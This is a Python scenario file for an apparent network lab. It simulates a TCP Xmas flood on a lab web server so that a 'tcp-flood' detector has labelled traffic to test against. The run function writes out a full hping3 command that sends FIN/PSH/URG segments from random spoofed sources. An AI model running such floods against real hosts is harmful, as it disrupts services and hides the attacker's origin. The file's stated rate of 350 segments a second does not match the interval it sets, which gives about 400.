"""A flood of segments with FIN, PSH and URG."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker = net.outside("attacker")
    web = net.web()
    net.everyday()
    with net.attack(
        "tcp-flood",
        by=attacker,
        victims=[web],
        attacker_known=False,
        also=["ip-spoofing"],
        frames=f"tcp and dst host {web.ip} and dst port 80",
        responses=f"tcp and src host {web.ip} and tcp[tcpflags] & tcp-rst != 0",
    ):
        net.tool(attacker, *f"hping3 -q -F -P -U --rand-source -p 80 -i u2500 -c 1800 {web.ip}".split())
    net.quiet(3)


SCENARIO = Scenario(
    name="tcp-flood-xmas",
    about="hping3 sends 350 Xmas segments a second from random sources.",
    detectors=("tcp-flood",),
    tools={"hping3": "hping3"},
    run=run,
)
